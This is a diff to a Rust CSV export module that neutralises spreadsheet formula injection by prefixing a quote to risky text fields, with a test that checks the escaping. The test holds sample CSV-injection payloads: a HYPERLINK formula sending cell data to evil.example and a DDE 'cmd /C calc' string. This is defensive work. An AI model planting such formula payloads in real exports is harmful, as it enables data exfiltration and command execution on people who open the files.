@@ -1,5 +1,8 @@
 //! The CSV format: a header row and one row of metadata per record (RFC 4180 quoting: a field
 //! with a comma, quote, CR or LF, or leading or trailing spaces, is quoted; quotes are doubled).
+//! Text columns that a spreadsheet would run as a formula (a client's model name, request id or
+//! feedback label starting with `=`, `+`, `-`, `@`, tab or CR) get a leading `'` (OWASP's advice
+//! against CSV injection); number columns are written as they are.
 
 use crate::capture::record::CaptureRecord;
 use crate::store::Feedback;
@@ -42,18 +45,18 @@ pub fn row(r: &CaptureRecord, feedback: Option<&Feedback>, out: &mut Vec<u8>) {
     let t = &r.timings;
     let usage = r.usage.unwrap_or_default();
     let fields = [
-        r.id.clone(),
+        text(&r.id),
         r.attempt.to_string(),
         rfc3339_millis(r.started_at_ms),
-        r.route.clone(),
-        r.api.clone(),
-        r.model.clone().unwrap_or_default(),
-        r.method.clone(),
-        r.path.clone(),
+        text(&r.route),
+        text(&r.api),
+        text(r.model.as_deref().unwrap_or_default()),
+        text(&r.method),
+        text(&r.path),
         opt(r.client_status),
         opt(r.upstream_status),
         r.streamed.to_string(),
-        r.tier.clone(),
+        text(&r.tier),
         r.outcome.as_str().to_owned(),
         r.partial.to_string(),
         ms(t.first_feedback_ms),
@@ -65,9 +68,13 @@ pub fn row(r: &CaptureRecord, feedback: Option<&Feedback>, out: &mut Vec<u8>) {
         opt(usage.input),
         opt(usage.output),
         opt(usage.reasoning),
-        r.error.clone().unwrap_or_default(),
+        text(r.error.as_deref().unwrap_or_default()),
         opt(feedback.and_then(|f| f.score)),
-        feedback.and_then(|f| f.label.clone()).unwrap_or_default(),
+        text(
+            feedback
+                .and_then(|f| f.label.as_deref())
+                .unwrap_or_default(),
+        ),
     ];
     push_row(out, &fields);
 }
@@ -92,6 +99,14 @@ fn push_field(out: &mut Vec<u8>, field: &str) {
     out.push(b'"');
     out.extend_from_slice(field.replace('"', "\"\"").as_bytes());
     out.push(b'"');
+}
+
+/// A text column: with a leading `'` when a spreadsheet would read it as a formula.
+fn text(value: &str) -> String {
+    match value.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        true => format!("'{value}"),
+        false => value.to_owned(),
+    }
 }
 
 fn opt<T: ToString>(value: Option<T>) -> String {
@@ -173,6 +188,39 @@ mod tests {
             String::from_utf8(out).unwrap(),
             "plain,\"a,b\",\"say \"\"hi\"\"\",\"l1\nl2\",\" pad\",\r\n"
         );
+    }
+
+    /// Text a client chose (its model, request id, feedback label) that a spreadsheet would run
+    /// as a formula is kept as text; numbers stay numbers.
+    #[test]
+    fn text_that_reads_as_a_formula_stays_text() {
+        let mut r = crate::export::tests::base(
+            "openai",
+            "/v1/chat/completions",
+            false,
+            serde_json::json!({}),
+            crate::capture::record::Reassembled::default(),
+        );
+        r.model = Some("=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")".into());
+        r.id = "+cmd|' /C calc'!A0".into();
+        r.error = Some("-2+3".into());
+        let feedback = Feedback {
+            score: Some(-1.0),
+            label: Some("@SUM(A1)".into()),
+            ..Feedback::default()
+        };
+        let mut out = Vec::new();
+        row(&r, Some(&feedback), &mut out);
+        let text = String::from_utf8(out).unwrap();
+        for cell in text.trim_end().split(',') {
+            let cell = cell.trim_start_matches('"');
+            assert!(
+                !cell.starts_with(['=', '+', '@']) && (!cell.starts_with('-') || cell == "-1"),
+                "{cell:?} in {text}"
+            );
+        }
+        assert!(text.contains("'=HYPERLINK"), "{text}");
+        assert!(text.ends_with(",-1,'@SUM(A1)\r\n"), "{text}");
     }
 
     #[test]
